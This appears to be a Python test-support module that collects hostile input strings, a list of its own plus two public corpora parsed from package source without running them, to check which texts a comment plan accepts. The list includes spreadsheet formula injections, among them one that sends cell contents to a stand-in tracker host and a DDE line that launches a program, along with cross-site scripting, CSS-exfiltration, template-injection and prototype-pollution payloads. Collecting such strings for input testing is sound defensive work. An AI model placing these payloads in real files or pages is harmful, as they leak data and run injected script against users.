"""Words that some program somewhere takes for something else: a list of our own, and two public ones from packages."""

from __future__ import annotations

import ast
import json
from collections.abc import Iterator
from contextlib import suppress

from smplan_kernel.plan import Comment
from tests.documents.hostile import HOSTILE
from tests.proof import corpora

PACKAGES = ("blns", "brs-kb")
LONGEST = 5_000  # letters
OURS = (
    *(text for text in HOSTILE if len(text) < LONGEST),
    "Costs $5 here and $10 there, or \\(x^2\\) or $$y$$",
    "\t=1+1",
    "\r\n=1+1",
    "＝1+1",
    " =1+1",
    '=IMPORTXML(CONCAT("http://tracker.example/?",A1),"//a")',
    '+HYPERLINK("http://tracker.example","x")',
    "-2+3+cmd|' /C calc'!A0",
    "';alert(1);//",
    '<a href="javascript:alert(1)">x</a>',
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<link rel=stylesheet href=//tracker.example/x.css>",
    "<base href=//tracker.example/>",
    '<meta http-equiv=refresh content="0;url=//tracker.example">',
    "<details open ontoggle=alert(1)>",
    "]]><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "*/}</style><script>alert(1)</script>",
    "@import url(//tracker.example/x.css);",
    "\\22 ;} body{background:url(//tracker.example/x)}",
    "${alert(1)} #{7*7} <%= 7*7 %> [[7*7]]",
    "datum.x.constructor.constructor('alert(1)')()",
    "__proto__",
    "[x]: http://tracker.example",
    "<http://tracker.example> www.tracker.example mara@tracker.example",
    "1) first\n2) second",
    "**bold** and *soft*",
)  # fmt: skip


def known() -> dict[str, tuple[str, ...]]:
    """Every list that could be had, by its name; a string stands in the first that has it, and none that a plan refuses."""
    seen: set[str] = set()
    lists = {"ours": OURS, "blns": tuple(_blns()), "brs-kb": tuple(_brs())}
    found = {}
    for name, texts in lists.items():
        kept = [text for text in dict.fromkeys(texts) if text.strip() and len(text) <= LONGEST and text not in seen and may_be_typed(text)]
        seen.update(kept)
        found[name] = tuple(kept)
    return found


def may_be_typed(text: str) -> bool:
    """Whether a plan takes it; NUL and halves of characters are refused with a sentence."""
    with suppress(ValueError):
        Comment.new(text=text)
        return True
    return False


def _blns() -> Iterator[str]:
    for path, data in corpora.members("blns"):
        if path.endswith("blns.json"):
            yield from json.loads(data)


def _brs() -> Iterator[str]:
    """The payloads as they are written in the package's source; nothing of it is run."""
    for path, data in corpora.members("brs-kb"):
        if "/payloads/" in path and path.endswith(".py"):
            for node in ast.walk(ast.parse(data)):
                pairs = [(node.arg, node.value)] if isinstance(node, ast.keyword) else []
                pairs += [(key.value, value) for key, value in zip(node.keys, node.values, strict=True) if isinstance(key, ast.Constant)] if isinstance(node, ast.Dict) else []  # fmt: skip
                yield from (value.value for name, value in pairs if name == "payload" and _is_text(value))


def _is_text(node: ast.expr) -> bool:
    return isinstance(node, ast.Constant) and isinstance(node.value, str)
